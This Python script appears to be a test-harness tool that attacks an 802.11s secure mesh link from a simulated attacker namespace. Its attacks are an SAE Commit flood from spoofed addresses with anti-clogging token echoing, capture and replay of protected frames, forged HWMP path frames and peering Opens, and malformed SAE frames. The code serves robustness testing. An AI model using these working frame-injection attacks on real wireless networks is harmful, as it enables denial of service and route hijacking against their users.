#!/usr/bin/env python3
"""Attacks on a secure mesh link (issue 16); runs in the attacker's namespace, on its air port.

  hostile_secure.py IFACE PHASE ARGS... ; prints one JSON line of what it did

  flood SECONDS RATE COMMIT_HEX NODE       SAE Commits from RATE made-up addresses per second (each a
                                           real group-19 Commit: scalar in range, element on the curve),
                                           echoing any anti-clogging token the node sends to them (an
                                           attacker on the air hears every reply)
  capture SECONDS FROM TO FILE             keeps every protected data frame FROM sends TO (hex lines)
  replay FILE                              sends those frames again, unchanged
  forge_preq NODE PEER                     unprotected PREQs and PREPs claiming to be PEER, and a
                                           peering Open from PEER with a garbage AMPE trailer
  garbage NODE                             truncated and malformed SAE frames, Opens from strangers
"""
import json
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
RADIOTAP = bytes.fromhex("0000080000000000")


def mac(s):
    return bytes.fromhex(s.replace(":", ""))


def open_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, ETH_P_ALL))
    s.setblocking(False)
    return s


def dot11(frame):
    """The 802.11 frame inside a received radiotap frame."""
    return frame[struct.unpack_from("<H", frame, 2)[0]:]


def auth(ra, ta, body):
    return RADIOTAP + bytes([0xB0, 0, 0, 0]) + ra + ta + ra + b"\0\0" + body


def flood(s, seconds, rate, commit, node):
    head, tail = commit[:8], commit[8:]
    sent = tokens_echoed = tokens_heard = 0
    start = time.monotonic()
    i = 0
    while time.monotonic() - start < seconds:
        fake = bytes([0x06, 0xEE, (i >> 16) & 0xFF, (i >> 8) & 0xFF, i & 0xFF, 0x01])
        s.send(auth(node, fake, commit))
        sent += 1
        i += 1
        # Replies to our made-up addresses: a token request (status 76) is answered with the token.
        while True:
            r, _, _ = select.select([s], [], [], 0)
            if not r:
                break
            data, addr = s.recvfrom(4096)
            if addr[2] == PACKET_OUTGOING:
                continue
            f = dot11(data)
            if len(f) >= 24 + 8 and f[0] == 0xB0 and f[4] == 0x06 and f[5] == 0xEE:
                alg, seq, status = struct.unpack_from("<HHH", f, 24)
                if alg == 3 and seq == 1 and status == 76:
                    tokens_heard += 1
                    token = f[24 + 8:]
                    s.send(auth(node, f[4:10], head + token + tail))
                    tokens_echoed += 1
        time.sleep(max(0.0, start + sent / rate - time.monotonic()))
    return {"commits": sent, "addresses": i, "seconds": round(time.monotonic() - start, 2),
            "tokens_heard": tokens_heard, "tokens_echoed": tokens_echoed}


def capture(s, seconds, frm, to, path):
    kept = []
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        r, _, _ = select.select([s], [], [], 0.05)
        if not r:
            continue
        data, addr = s.recvfrom(4096)
        if addr[2] == PACKET_OUTGOING:
            continue
        f = dot11(data)
        # protected QoS data, to TO from FROM
        if len(f) > 40 and (f[0] & 0x0C) == 0x08 and (f[1] & 0x40) and f[4:10] == to and f[10:16] == frm:
            kept.append(data.hex())
    with open(path, "w") as out:
        out.write("\n".join(kept) + ("\n" if kept else ""))
    return {"captured": len(kept)}


def replay(s, path):
    frames = [bytes.fromhex(line) for line in open(path).read().split()]
    for f in frames:
        s.send(f)
        time.sleep(0.002)
    return {"replayed": len(frames)}


def forge_preq(s, node, peer):
    body = (bytes([0, 0, 31]) + struct.pack("<I", 7777) + peer + struct.pack("<III", 0x7fffff00, 4883, 0) +
            bytes([1, 0x05]) + node + struct.pack("<I", 0))
    preq = bytes([13, 1, 130, len(body)]) + body
    prep_body = bytes([0, 0, 31]) + peer + struct.pack("<III", 0x7fffff00, 4883, 0) + node + struct.pack("<I", 1)
    prep = bytes([13, 1, 131, len(prep_body)]) + prep_body
    n = 0
    for _ in range(50):
        s.send(RADIOTAP + bytes([0xD0, 0, 0, 0]) + b"\xff" * 6 + peer + peer + b"\0\0" + preq)
        s.send(RADIOTAP + bytes([0xD0, 0, 0, 0]) + node + peer + peer + b"\0\0" + prep)
        n += 2
        time.sleep(0.002)
    # An Open from the peer's address with element 117 for AMPE and a MIC element that cannot verify.
    mpm = struct.pack("<HH", 1, 0x1234) + bytes(16)
    open_frame = (RADIOTAP + bytes([0xD0, 0, 0, 0]) + node + peer + peer + b"\0\0" + bytes([15, 1, 0, 0]) +
                  bytes([117, len(mpm)]) + mpm + bytes([140, 16]) + bytes(16) + bytes(range(90)))
    for _ in range(20):
        s.send(open_frame)
        time.sleep(0.002)
    return {"forged_hwmp": n, "forged_opens": 20}


def garbage(s, node):
    stranger = mac("06:ee:ff:00:00:01")
    frames = []
    frames.append(auth(node, stranger, b"\x03\x00"))                        # truncated before seq
    frames.append(auth(node, stranger, b"\x03\x00\x01\x00\x00\x00\x13"))     # truncated group
    frames.append(auth(node, stranger, b"\x03\x00\x01\x00\x00\x00\x13\x00" + b"\xff" * 96))  # scalar >= r
    frames.append(auth(node, stranger, b"\x03\x00\x01\x00\x00\x00\x13\x00" + b"\x01" * 32 + b"\x02" * 64))  # off curve
    frames.append(auth(node, stranger, b"\x03\x00\x02\x00\x00\x00\x00\x00" + bytes(32)))  # Confirm, no session
    frames.append(auth(node, stranger, b"\x03\x00\x01\x00\x00\x00\x13\x00" + bytes(1500)))  # oversized
    frames.append(auth(node, stranger, b"\x00\x00\x01\x00\x00\x00"))         # open system: not SAE
    for f in frames:
        for _ in range(10):
            s.send(f)
            time.sleep(0.001)
    return {"garbage": 10 * len(frames)}


def main():
    s = open_socket(sys.argv[1])
    phase, args = sys.argv[2], sys.argv[3:]
    if phase == "flood":
        out = flood(s, float(args[0]), float(args[1]), bytes.fromhex(args[2]), mac(args[3]))
    elif phase == "capture":
        out = capture(s, float(args[0]), mac(args[1]), mac(args[2]), args[3])
    elif phase == "replay":
        out = replay(s, args[0])
    elif phase == "forge_preq":
        out = forge_preq(s, mac(args[0]), mac(args[1]))
    else:
        out = garbage(s, mac(args[0]))
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
